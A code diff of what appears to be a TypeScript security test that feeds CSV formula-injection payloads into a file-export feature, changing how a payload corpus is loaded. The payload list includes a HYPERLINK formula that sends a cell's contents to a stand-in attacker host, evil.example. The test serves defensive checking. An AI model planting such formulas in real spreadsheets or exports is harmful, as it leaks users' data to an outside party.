@@ -1,15 +1,13 @@
-import { readFileSync } from 'node:fs';
 import { expect } from 'vitest';
 import { unzip } from '../../processes/demo/unzip.ts';
 import { askForDownloadCode, download, exportLink } from '../builders/exportFile.ts';
 import { fileRequest } from '../builders/journey.ts';
 import { persona } from '../builders/openWorld.ts';
-import { sharedFolder } from '../local/store/conformance/sharedFolder.ts';
+import { sharedTexts } from '../builders/sharedFolder.ts';
 import type { Attack } from './attack.ts';
 
-const corpus = sharedFolder('corpora', 'csv-injection.txt');
 const formulas = [
-  ...(corpus === undefined ? [] : readFileSync(corpus, 'utf8').split('\n').filter(Boolean)),
+  ...(sharedTexts('csv-injection.txt') ?? []),
   '=HYPERLINK("https://evil.example/?"&A1,"open")',
   '+1+1',
   '-1+1',
